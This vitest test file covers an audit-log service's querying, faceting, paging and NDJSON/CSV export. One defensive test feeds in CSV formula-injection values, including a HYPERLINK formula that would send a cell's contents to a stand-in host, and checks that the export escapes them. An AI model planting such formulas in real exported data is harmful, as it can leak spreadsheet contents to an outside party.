import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import type { AuditFilters, AuditSort } from '../../shared/contract/audit.ts';
import { auditCommands } from '../../shared/contract/audit.ts';
import { auditHandlers } from '../../electron/core/audit/handlers.ts';
import { buildWhere } from '../../electron/core/audit/filters.ts';
import type { AuditService } from '../../electron/core/audit/service.ts';
import { makeEvent, openService, tempDir, walkPages } from './helpers.ts';

const COUNT = 600;
const tmp = tempDir();
let service: AuditService;
const all = Array.from({ length: COUNT }, (_, i) => makeEvent(i));

beforeAll(async () => {
  service = openService(join(tmp.dir, 'audit.db'));
  const [r] = await service.import([tmp.file('all.ndjson', all.map((e) => JSON.stringify(e)).join('\n'))]);
  expect(r.accepted).toBe(COUNT);
});
afterAll(async () => {
  await service.close();
  tmp.cleanup();
});

type E = ReturnType<typeof makeEvent> & { date: string; action: Record<string, any>; member: Record<string, any> };
const expected = (pred: (e: E) => boolean) => (all as E[]).filter(pred).map((e) => e.event_id as string);
const dateDesc = { field: 'date', dir: 'desc' } as const;

const everything = (filters: AuditFilters, sort: AuditSort = dateDesc, limit = 37): string[] =>
  walkPages(service, filters, sort, limit);

/** `events` imported (NDJSON) into a new cache, exported from it to CSV, and that CSV imported into another new cache. */
async function csvRoundTrip(
  name: string,
  events: Record<string, unknown>[],
  check: (o: { src: AuditService; back: AuditService; text: string }) => void,
): Promise<void> {
  const src = openService(join(tmp.dir, `${name}.db`));
  const back = openService(join(tmp.dir, `${name}-back.db`));
  try {
    const file = join(tmp.dir, `${name}.ndjson`);
    writeFileSync(file, events.map((e) => JSON.stringify(e)).join('\n') + '\n');
    expect((await src.import([file]))[0]).toMatchObject({ accepted: events.length, rejected: 0 });
    const out = await src.export({
      format: 'csv',
      path: join(tmp.dir, `${name}.csv`),
      filters: {},
      sort: { field: 'date', dir: 'asc' },
    });
    expect((await back.import([out.path]))[0]).toMatchObject({ accepted: events.length, rejected: 0 });
    check({ src, back, text: readFileSync(out.path, 'utf8') });
  } finally {
    await src.close();
    await back.close();
  }
}

describe('query: the API filters, offline', () => {
  it('takes an instant without a zone as UTC in every query, whatever zone the process runs in', () => {
    const before = process.env.TZ;
    // Node reads TZ again when it is set: the instant below would be 12:00 in New York otherwise.
    process.env.TZ = 'America/New_York';
    try {
      const f: AuditFilters = { from: '2026-03-01T12:00', to: '2026-03-01T13:00' };
      const want = expected((e) => e.date >= '2026-03-01T12:00:00.000Z' && e.date <= '2026-03-01T13:00:00.000Z');
      expect(want).toHaveLength(7);
      expect(new Set(everything(f))).toEqual(new Set(want));
      expect(service.query({ filters: f, sort: dateDesc, limit: 1, withTotal: true }).total).toBe(7);
      expect(service.timeline(f, 'hour').points.reduce((n, p) => n + p.count, 0)).toBe(7);
    } finally {
      if (before === undefined) delete process.env.TZ;
      else process.env.TZ = before;
    }
  });

  it('filters by each dimension and by combinations, like the API would', () => {
    const same = (f: AuditFilters, pred: (e: E) => boolean) =>
      expect(new Set(everything(f))).toEqual(new Set(expected(pred)));
    same({ memberIds: [2, 3] }, (e) => [2, 3].includes(e.member.user_id));
    same({ groupIds: [102] }, (e) => e.action.data.group_id === 102);
    same({ folderRefs: ['fld_1', 'fld_4'] }, (e) => ['fld_1', 'fld_4'].includes(e.action.data.folder_reference));
    same({ eventTypes: ['project.folder.shared'] }, (e) => e.action.event_type === 'project.folder.shared');
    same({ requestId: 'req_7' }, (e) => e.action.request_id === 'req_7');
    same({ from: '2026-03-02', to: '2026-03-03' }, (e) => e.date >= '2026-03-02' && e.date < '2026-03-04');
    same(
      { from: '2026-03-02T05:00:00Z', to: '2026-03-02T06:00:00Z' },
      (e) => e.date >= '2026-03-02T05:00:00' && e.date <= '2026-03-02T06:00:00.000Z',
    );
    same(
      { memberIds: [1], eventTypes: ['team.member.role_changed', 'creation.image.generated'], groupIds: [101, 103] },
      (e) =>
        e.member.user_id === 1 &&
        ['team.member.role_changed', 'creation.image.generated'].includes(e.action.event_type) &&
        [101, 103].includes(e.action.data.group_id),
    );
  });

  it('a word the tokenizer cuts (slash, emoji, combining mark) is searched as its pieces, never as an error', async () => {
    const own = openService(join(tmp.dir, 'odd.db'));
    try {
      const odd = [
        makeEvent(1, {
          action: { event_type: 'odd.event.one', request_id: 'req_odd', data: { folder_name: 'Brand/2026 café' } },
        }),
        makeEvent(2, {
          action: { event_type: 'odd.event.two', request_id: 'req_odd', data: { note: 'k\u0332z launch😀day' } },
        }),
      ];
      const [r] = await own.import([tmp.file('odd.ndjson', odd.map((e) => JSON.stringify(e)).join('\n'))]);
      expect(r.accepted).toBe(2);
      const found = (search: string) => walkPages(own, { search }, dateDesc, 10);
      expect(found('brand/2026')).toEqual(['evt_1']);
      expect(found('Brand/20*')).toEqual(['evt_1']);
      expect(found('cafe\u0301')).toEqual(['evt_1']);
      expect(found('k\u0332z')).toEqual(['evt_2']);
      expect(found('launch😀day')).toEqual(['evt_2']);
      expect(found('brand/1999')).toEqual([]);
      expect(found('/ * 😀')).toHaveLength(2);
    } finally {
      await own.close();
    }
  });

  it('searches the payload text (FTS5), ANDs words and keeps prefixes', () => {
    expect(new Set(everything({ search: 'denied' }))).toEqual(
      new Set(expected((e) => e.action.data.outcome === 'denied')),
    );
    expect(new Set(everything({ search: 'viewer failed' }))).toEqual(
      new Set(expected((e) => e.action.new_state.role === 'viewer' && e.action.status === 'failed')),
    );
    expect(new Set(everything({ search: 'user3@example.test' }))).toEqual(
      new Set(expected((e) => e.member.email === 'user3@example.test')),
    );
    expect(everything({ search: 'vie*' }).length).toBe(expected((e) => e.action.new_state.role === 'viewer').length);
    expect(everything({ search: 'nothing-like-this' })).toEqual([]);
  });

  it('pages with the keyset cursor in every sort order, the same rows as one big offset page', () => {
    for (const sort of [
      dateDesc,
      { field: 'date', dir: 'asc' },
      { field: 'event_type', dir: 'asc' },
      { field: 'member', dir: 'desc' },
    ] as AuditSort[]) {
      const keyset = everything({}, sort);
      const offset = service.query({ filters: {}, sort, limit: 1000 }).rows.map((r) => r.eventId);
      expect(keyset).toEqual(offset);
      expect(keyset).toHaveLength(COUNT);
    }
    const dates = service.query({ filters: {}, sort: dateDesc, limit: 50, offset: 100 }).rows.map((r) => r.date);
    expect([...dates].sort().reverse()).toEqual(dates);
    expect(
      service.query({ filters: { eventTypes: ['project.folder.shared'] }, sort: dateDesc, limit: 1, withTotal: true })
        .total,
    ).toBe(COUNT / 4);
  });

  it('rejects a cursor of another sort order', () => {
    const next = service.query({ filters: {}, sort: dateDesc, limit: 5 }).next!;
    expect(() => service.query({ filters: {}, sort: { field: 'member', dir: 'desc' }, limit: 5, after: next })).toThrow(
      /another sort order/,
    );
    expect(() => service.query({ filters: {}, sort: dateDesc, limit: 5, after: 'garbage!' })).toThrow(
      /not valid|another sort/,
    );
  });
});

describe('query: facets, timeline, detail', () => {
  it('counts by event type and by member, each ignoring its own filter', () => {
    const f = service.facets({ eventTypes: ['project.folder.shared'], memberIds: [2] });
    expect(f.eventTypes.map((x) => x.count).reduce((a, b) => a + b)).toBe(
      expected((e) => e.member.user_id === 2).length,
    );
    const m2 = f.members.find((m) => m.value === '2')!;
    expect(m2).toMatchObject({
      label: 'user2@example.test',
      count: expected((e) => e.member.user_id === 2 && e.action.event_type === 'project.folder.shared').length,
    });
  });

  it('says how many values each facet has in all when it lists only the top ones, under the other filters', () => {
    const top = service.facets({}, 2);
    expect(top.eventTypes).toHaveLength(2);
    expect(top.members).toHaveLength(2);
    expect(top).toMatchObject({ eventTypesDistinct: 4, membersDistinct: 6 });
    // Member 2's events (i % 6 === 1, so odd i) have two of the four types.
    const narrowed = service.facets({ memberIds: [2], eventTypes: ['project.folder.shared'] }, 1);
    expect(narrowed.eventTypesDistinct).toBe(2);
    const typeMembers = new Set(
      (all as E[]).filter((e) => e.action.event_type === 'project.folder.shared').map((e) => e.member.user_id),
    );
    expect(narrowed.membersDistinct).toBe(typeMembers.size);
    expect(typeMembers.size).toBeLessThan(6);
    expect(service.facets({ requestId: 'no-such-request' }, 2)).toMatchObject({
      eventTypes: [],
      eventTypesDistinct: 0,
      membersDistinct: 0,
    });
  });

  it('labels a member with the e-mail of their latest event, and actors without a user id together', async () => {
    const other = openService(join(tmp.dir, 'labels.db'));
    try {
      const file = join(tmp.dir, 'labels.ndjson');
      const list = [
        makeEvent(1, { member: { type: 'user', user_id: 7, email: 'zz-old@example.test' } }),
        makeEvent(2, { member: { type: 'user', user_id: 7, email: 'new@example.test' } }),
        makeEvent(3, { member: { type: 'api_key' } }),
        makeEvent(4, { member: { type: 'api_key' } }),
      ];
      writeFileSync(file, list.map((e) => JSON.stringify(e)).join('\n') + '\n');
      await other.import([file]);
      const f = other.facets({}, 10);
      expect(f.members).toEqual([
        { value: 'no-user-id:', label: null, count: 2, actorType: 'api_key' },
        { value: '7', label: 'new@example.test', count: 2 },
      ]);
    } finally {
      await other.close();
    }
  });

  it('filters by actors without a user id, all of them or by e-mail, alone or ORed with member ids, and offers one facet entry per e-mail', async () => {
    const other = openService(join(tmp.dir, 'idless.db'));
    try {
      const list = [
        makeEvent(1, { member: { type: 'user', user_id: 7, email: 'seven@example.test' } }),
        makeEvent(2, { member: { type: 'user', user_id: 8, email: 'eight@example.test' } }),
        makeEvent(3, { member: { type: 'api_key', user_id: null, email: 'ci-key@example.test' } }),
        makeEvent(4, { member: { type: 'system' } }),
        makeEvent(5, { member: { type: 'api_key', user_id: null, email: 'ci-key@example.test' } }),
        makeEvent(6, { member: { type: 'api_key', user_id: null, email: 'deploy-key@example.test' } }),
        // A member sharing the key's e-mail (its owner, say) is not the key.
        makeEvent(7, { member: { type: 'user', user_id: 9, email: 'ci-key@example.test' } }),
      ];
      await other.import([tmp.file('idless.ndjson', list.map((e) => JSON.stringify(e)).join('\n') + '\n')]);
      const ids = (filters: AuditFilters) => new Set(walkPages(other, filters, dateDesc, 2));
      expect(ids({ noUserId: true })).toEqual(new Set(['evt_3', 'evt_4', 'evt_5', 'evt_6']));
      expect(ids({ noUserId: true, memberIds: [7] })).toEqual(new Set(['evt_1', 'evt_3', 'evt_4', 'evt_5', 'evt_6']));
      expect(ids({ noUserId: false, memberIds: [7] })).toEqual(new Set(['evt_1']));
      expect(ids({ noUserId: true, search: 'ci-key@example.test' })).toEqual(new Set(['evt_3', 'evt_5']));
      expect(ids({ noUserIdEmails: ['ci-key@example.test'] })).toEqual(new Set(['evt_3', 'evt_5']));
      expect(ids({ noUserIdEmails: ['ci-key@example.test', ''] })).toEqual(new Set(['evt_3', 'evt_4', 'evt_5']));
      expect(ids({ noUserIdEmails: ['deploy-key@example.test'], memberIds: [8] })).toEqual(new Set(['evt_2', 'evt_6']));
      expect(ids({ noUserIdEmails: ['ci-key@example.test'], search: 'ci-key@example.test' })).toEqual(
        new Set(['evt_3', 'evt_5']),
      );
      expect(
        other.query({ filters: { noUserIdEmails: ['ci-key@example.test'] }, sort: dateDesc, limit: 1, withTotal: true })
          .total,
      ).toBe(2);
      expect(other.timeline({ noUserIdEmails: [''] }, 'day').points.reduce((n, p) => n + p.count, 0)).toBe(1);
      // One entry per e-mail, labelled by it and typed; its own choice does not narrow the list.
      const f = other.facets({ noUserIdEmails: ['deploy-key@example.test'] }, 10);
      expect(f.members).toEqual([
        { value: 'no-user-id:ci-key@example.test', label: 'ci-key@example.test', count: 2, actorType: 'api_key' },
        { value: 'no-user-id:', label: null, count: 1, actorType: 'system' },
        {
          value: 'no-user-id:deploy-key@example.test',
          label: 'deploy-key@example.test',
          count: 1,
          actorType: 'api_key',
        },
        { value: '7', label: 'seven@example.test', count: 1 },
        { value: '8', label: 'eight@example.test', count: 1 },
        { value: '9', label: 'ci-key@example.test', count: 1 },
      ]);
      expect(f.membersDistinct).toBe(6);
      expect(f.eventTypes.reduce((n, t) => n + t.count, 0)).toBe(1);
      const top = other.facets({}, 2);
      expect([top.members.map((m) => m.value), top.membersDistinct]).toEqual([
        ['no-user-id:ci-key@example.test', 'no-user-id:'],
        6,
      ]);
      expect(
        auditCommands['audit.query'].request.safeParse({
          filters: { noUserId: true, noUserIdEmails: ['a@b.test', ''] },
        }).success,
      ).toBe(true);
    } finally {
      await other.close();
    }
  });

  it('picks and counts actors without a user id by e-mail through an index, not a scan of the events', () => {
    const plan = (sql: string, params: unknown[] = []) =>
      (service.store.db.prepare(`EXPLAIN QUERY PLAN ${sql}`).all(...params) as { detail: string }[])
        .map((r) => r.detail)
        .join('; ');
    const page = (f: AuditFilters) => {
      const w = buildWhere(f, { byKey: true });
      return plan(`SELECT seq FROM events ${w.sql} ORDER BY seq DESC LIMIT 100`, w.params);
    };
    // One e-mail: its events alone, newest first, straight from the index.
    expect(page({ noUserIdEmails: ['ci-key@example.test'] })).toBe(
      'SEARCH events USING COVERING INDEX events_noid_email (member_id=? AND member_email=?)',
    );
    for (const f of [
      { noUserIdEmails: ['ci-key@example.test', ''], from: '2026-03-02' },
      { noUserIdEmails: ['ci-key@example.test'], memberIds: [2, 3] },
    ]) {
      // The planner may seek each choice (and sort those), or walk the rows in key (date) order to
      // the page's end; never read the whole table to sort it.
      expect(page(f), JSON.stringify(f)).toMatch(/^(SEARCH events USING|SCAN events$)/);
    }
    // The facet's count per e-mail reads that index alone, already in e-mail order.
    expect(
      plan(
        'SELECT member_email AS v, count(*) AS n, count(*) OVER () AS d FROM events WHERE member_id IS NULL GROUP BY member_email ORDER BY n DESC, v LIMIT 50',
      ),
    ).toMatch(
      /SEARCH events USING COVERING INDEX events_noid_email \(member_id=\?\); SCAN \(subquery-\d\); USE TEMP B-TREE FOR ORDER BY$/,
    );
  });

  it('buckets events per hour and per day', () => {
    const hours = service.timeline({}, 'hour');
    expect(hours.points.reduce((a, p) => a + p.count, 0)).toBe(COUNT);
    expect(hours.points[0]).toEqual({ start: '2026-03-01T00:00:00.000Z', count: 6 });
    const days = service.timeline({ eventTypes: ['team.member.role_changed'] }, 'day');
    expect(days.points.map((p) => p.start)).toEqual(
      ['01', '02', '03', '04', '05'].map((d) => `2026-03-${d}T00:00:00.000Z`),
    );
    expect(days.points.reduce((a, p) => a + p.count, 0)).toBe(COUNT / 4);
  });

  it('gives one event with every field and the events of its request and correlation', () => {
    const d = service.event('evt_10')!;
    expect(d.event).toEqual(all[10]);
    expect(d.origin).toBe('import');
    expect(d.sameRequest.map((r) => r.eventId)).toEqual(['evt_9', 'evt_10', 'evt_11']);
    expect(d.sameCorrelationCount).toBe(0);
    const odd = service.event('evt_11')!;
    expect(odd.sameCorrelationCount).toBe(expected((e) => e.action.correlation_id === 'cor_4').length);
    expect(service.event('nope')).toBeNull();
  });
});

describe('export and the command handlers', () => {
  it('exports the filtered view to NDJSON and CSV that import back to the same events', async () => {
    const filters = { memberIds: [4] };
    const nd = await service.export({ format: 'ndjson', path: join(tmp.dir, 'out.ndjson'), filters, sort: dateDesc });
    const cs = await service.export({ format: 'csv', path: join(tmp.dir, 'out.csv'), filters, sort: dateDesc });
    const want = expected((e) => e.member.user_id === 4);
    expect(nd.rows).toBe(want.length);
    expect(cs.rows).toBe(want.length);
    expect(
      readFileSync(nd.path, 'utf8')
        .trim()
        .split('\n')
        .map((l) => JSON.parse(l).event_id),
    ).toEqual(everything(filters));
    const other = openService(join(tmp.dir, 'roundtrip.db'));
    try {
      const [r] = await other.import([cs.path]);
      expect(r).toMatchObject({ accepted: want.length, rejected: 0 });
      // CSV has no null: an empty cell comes back as an absent field, everything else is equal.
      const back = other.event('evt_3')!;
      expect(back.row).toEqual(service.event('evt_3')!.row);
      expect(back.event.action).toEqual(
        Object.fromEntries(Object.entries(all[3].action as object).filter(([, v]) => v !== null)),
      );
    } finally {
      await other.close();
    }
  });

  it('a value a spreadsheet would run as a formula (=, +, -, @, tab, CR first) is exported with a leading apostrophe, and the CSV imports back to the same events', async () => {
    const risky = [
      '=HYPERLINK("http://x.test/?"&A1,"open")',
      '+1+1',
      '-2+3',
      '@SUM(A1:A2)',
      '\tcmd',
      '\r=x',
      "'=already quoted",
      "'plain apostrophe",
      'plain',
    ];
    const events = risky.map((v, i) =>
      makeEvent(900 + i, {
        category: v,
        action: { ...(makeEvent(900 + i).action as object), project_name: v, data: { note: v } },
      }),
    );
    await csvRoundTrip('formulas', events, ({ back, text }) => {
      // No cell of the file begins with a formula's first character (a quoted cell's content counted too).
      for (const cell of text.split(/,|\r\n/)) expect(cell.replace(/^"/, '')).not.toMatch(/^[=+\-@\t\r]/);
      expect(text).toContain(`'@SUM(A1:A2)`);
      expect(text).toContain(`''=already quoted`);
      expect(text).toContain(`,'plain apostrophe,`);
      for (const e of events) {
        const got = back.event(e.event_id as string)!.event;
        expect(got.category).toBe(e.category);
        expect((got.action as Record<string, unknown>).project_name).toBe(
          (e.action as Record<string, unknown>).project_name,
        );
        expect((got.action as Record<string, unknown>).data).toEqual((e.action as Record<string, unknown>).data);
      }
    });
  });

  it('an empty text value exported to CSV imports back as an empty text value; null and missing fields come back missing', async () => {
    const base = makeEvent(950);
    const action = base.action as Record<string, unknown>;
    const member = base.member as Record<string, unknown>;
    const { folder_name: _noFolder, ...actionWithoutFolder } = action;
    const events = [
      // "" in every flattened text column, and in a JSON cell's payload.
      makeEvent(950, {
        category: '',
        action: {
          ...action,
          verb: '',
          status: '',
          resource_id: '',
          request_id: '',
          correlation_id: '',
          project_name: '',
          folder_name: '',
          data: { note: '' },
          context: {},
        },
        member: { type: '', user_id: 3, email: '' },
        source: { project: '', platform: '', referer: '' },
      }),
      // null in every nullable column.
      makeEvent(951, {
        category: null,
        action: {
          ...action,
          resource_id: null,
          request_id: null,
          correlation_id: null,
          old_state: null,
          new_state: null,
          duration_ms: null,
          context: null,
          project_name: null,
          folder_name: null,
        },
        member: { ...member, user_id: null, email: null },
        source: { project: null, platform: null, referer: null },
      }),
      // Fields left out, next to "" ones.
      makeEvent(952, {
        action: { ...actionWithoutFolder, correlation_id: 'cor_9', project_name: '' },
        source: { platform: 'web' },
      }),
    ];
    await csvRoundTrip('empty', events, ({ src, back, text }) => {
      const [, first] = text.split('\r\n');
      // Quoted empty cells for "", the JSON cell's "" inside its JSON text, as before.
      expect(first).toBe(
        `evt_950,${base.date},"",${action.event_type},"","","","","",${action.duration_ms},"","","{""note"":""""}",` +
          '"{""role"":""member""}","{""role"":""admin""}",{},"",3,"","","",""',
      );

      // "" comes back as "", everything else as it was.
      expect(back.event('evt_950')!.event).toEqual(events[0]);
      expect(back.event('evt_950')!.row).toEqual(src.event('evt_950')!.row);
      expect(back.event('evt_952')!.event).toEqual(events[2]);
      // CSV has one way to write "no value": null and a missing field are both an unquoted empty cell, and come back missing.
      const {
        resource_id: _r,
        request_id: _q,
        correlation_id: _c,
        old_state: _o,
        new_state: _n,
        duration_ms: _d,
        context: _x,
        project_name: _p,
        folder_name: _f,
        ...nonNullAction
      } = events[1].action as Record<string, unknown>;
      expect(back.event('evt_951')!.event).toEqual({
        event_id: 'evt_951',
        date: events[1].date,
        action: nonNullAction,
        member: { type: 'user' },
      });
      expect(back.event('evt_951')!.row).toEqual(src.event('evt_951')!.row);
    });
  });

  it('validates requests with the contract and answers through the handlers', async () => {
    const h = auditHandlers(service);
    const req = auditCommands['audit.query'].request.parse({ filters: { requestId: 'req_1' }, withTotal: true });
    const res = auditCommands['audit.query'].response.parse(await h['audit.query'](req));
    expect(res.total).toBe(3);
    expect(auditCommands['audit.query'].request.safeParse({ filters: { from: '2026-02-30x' } }).success).toBe(false);
    expect(auditCommands['audit.query'].request.safeParse({ offset: 1, after: 'x' }).success).toBe(false);
    const st = auditCommands['audit.status'].response.parse(await h['audit.status']({}));
    expect(st.events).toBe(COUNT);
  });
});

describe('folders by the name their events carry', () => {
  it('a row shows its folder by name: its own event’s, else the name another event of that folder carries; none, null', async () => {
    const s = openService(join(tmp.dir, 'folder-names.db'));
    try {
      const inFolder = (i: number, folder: string, name: string | undefined) => {
        const e = makeEvent(i) as E;
        e.action.data.folder_reference = folder;
        if (name === undefined) delete e.action.folder_name;
        else e.action.folder_name = name;
        return e;
      };
      const events = [
        inFolder(1, 'fld_vw4_3', 'Podcast art / Hero shots'),
        inFolder(2, 'fld_vw4_3', undefined),
        inFolder(3, 'fld_lonely', undefined),
      ];
      const [r] = await s.import([tmp.file('folders.ndjson', events.map((e) => JSON.stringify(e)).join('\n'))]);
      expect(r.accepted).toBe(3);
      const rows = s.query({ filters: {}, sort: dateDesc, limit: 10 }).rows;
      expect(rows.map((x) => [x.eventId, x.folderRef, x.folderName])).toEqual([
        ['evt_3', 'fld_lonely', null],
        ['evt_2', 'fld_vw4_3', 'Podcast art / Hero shots'],
        ['evt_1', 'fld_vw4_3', 'Podcast art / Hero shots'],
      ]);
      expect(s.event('evt_2')!.row.folderName).toBe('Podcast art / Hero shots');
    } finally {
      await s.close();
    }
  });
});
